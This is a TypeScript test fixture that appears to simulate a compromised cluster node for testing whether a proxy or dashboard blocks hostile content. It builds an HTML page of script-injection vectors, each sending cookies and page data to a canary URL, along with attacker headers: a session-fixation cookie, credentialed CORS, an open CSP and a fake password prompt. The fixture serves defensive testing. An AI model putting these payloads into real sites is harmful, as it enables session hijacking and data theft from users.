// A node that was taken over: it answers every request with a page that attacks whoever reads it, and with every header
// that a browser obeys.

import type { TLSSocket } from 'node:tls';
import { createServer } from 'node:tls';

export interface HostileNode {
  readonly port: number;
  close(): Promise<void>;
}

/** Runs script in each of the ways that HTML knows, and asks the canary for something in most of the others. */
export const hostilePage = (canary: string): string => `<!doctype html><title>harmless</title>
<link rel="stylesheet" href="${canary}/style">
<meta http-equiv="refresh" content="0;url=${canary}/meta-refresh">
<script>
document.title = 'owned';
document.cookie = 'script=1; path=/';
fetch('${canary}/script?' + encodeURIComponent(document.title + ' ' + document.cookie));
</script>
<img src="${canary}/image" onerror="fetch('${canary}/onerror')">
<svg onload="fetch('${canary}/onload')"></svg>
<iframe srcdoc="<script>parent.document.title='owned';fetch('${canary}/frame')</script>"></iframe>
<object data="${canary}/object"></object>
<form action="${canary}/form" id="form"><button>send</button></form>
<a href="javascript:void(document.title='owned',fetch('${canary}/link'))" id="link">kubelet.log</a>
`;

/** What the node says beside its page. None of these values may reach a browser. */
export const hostileHeaders = (canary: string): readonly (readonly [string, string])[] => [
  ['Set-Cookie', 'node=1; Path=/; Secure'],
  ['Set-Cookie', 'session=of-the-attacker; Path=/; Secure'],
  ['Access-Control-Allow-Origin', canary],
  ['Access-Control-Allow-Credentials', 'true'],
  ['Access-Control-Allow-Headers', 'authorization'],
  ['Access-Control-Expose-Headers', '*'],
  ['Alt-Svc', 'h2="127.0.0.1:1"; ma=3600'],
  ['Content-Security-Policy', "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:"],
  ['Content-Security-Policy-Report-Only', `default-src 'none'; report-uri ${canary}/report`],
  ['Content-Disposition', 'inline; filename="evil.html"'],
  ['Cross-Origin-Resource-Policy', 'cross-origin'],
  ['Cross-Origin-Opener-Policy', 'unsafe-none'],
  ['Cache-Control', 'public, max-age=31536000, immutable'],
  ['Link', `<${canary}/preload>; rel=preload; as=script`],
  ['NEL', '{"report_to":"node","max_age":3600,"include_subdomains":true}'],
  ['Refresh', `0;url=${canary}/refresh`],
  ['Report-To', `{"group":"node","max_age":3600,"endpoints":[{"url":"${canary}/report"}]}`],
  ['Service-Worker-Allowed', '/'],
  ['SourceMap', `${canary}/map`],
  ['Strict-Transport-Security', 'max-age=31536000; includeSubDomains; preload'],
  ['WWW-Authenticate', 'Basic realm="type your password here"'],
  ['X-Content-Type-Options', 'sniff'],
];

/**
 * Starts it. A path decides what else it does: `/configz` wipes what the browser keeps of the origin instead of setting
 * cookies, `/healthz` sets one cookie and not two, a path that ends in `moved` or `missing` is a redirect to the canary or an error, and `.bin` is not HTML.
 */
export async function startHostileNode(options: {
  readonly certificate: string;
  readonly key: string;
  readonly canary: string;
}): Promise<HostileNode> {
  const { canary } = options;
  const server = createServer({ cert: options.certificate, key: options.key });
  const sockets = new Set<TLSSocket>();
  server.on('secureConnection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket)).on('error', () => socket.destroy());
    let head = '';
    socket.on('data', (chunk: Buffer) => {
      head += chunk.toString('latin1');
      if (!head.includes('\r\n\r\n')) return;
      socket.end(answerTo(head.split(' ', 2)[1] ?? '', canary));
      head = '';
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new TypeError('not listening on a port');
  return {
    port: address.port,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        for (const socket of sockets) socket.destroy();
      }),
  };
}

function answerTo(target: string, canary: string): string {
  const path = target.split('?', 1)[0] ?? '';
  // A browser asks for it at any time; with the cookies of any other answer it would undo what Clear-Site-Data did.
  if (path === '/favicon.ico') return 'HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n';
  const body = hostilePage(canary);
  const wipes = path.endsWith('/configz');
  const lines = [
    path.endsWith('moved') ? 'HTTP/1.1 302 Found' : `HTTP/1.1 ${path.endsWith('missing') ? 404 : 200} Yes`,
    `Content-Type: ${path.endsWith('.bin') ? 'application/xhtml+xml' : 'text/html; charset=utf-8'}`,
    `Content-Length: ${Buffer.byteLength(body)}`,
    'Connection: close',
    ...(path.endsWith('moved') ? [`Location: ${canary}/moved`] : []),
    ...(wipes ? ['Clear-Site-Data: "*"'] : []),
    ...hostileHeaders(canary)
      .filter(([name]) => !(wipes && name === 'Set-Cookie'))
      .filter(([, value]) => !(path.endsWith('/healthz') && value.startsWith('node=1')))
      .map(([name, value]) => `${name}: ${value}`),
  ];
  return `${lines.join('\r\n')}\r\n\r\n${body}`;
}
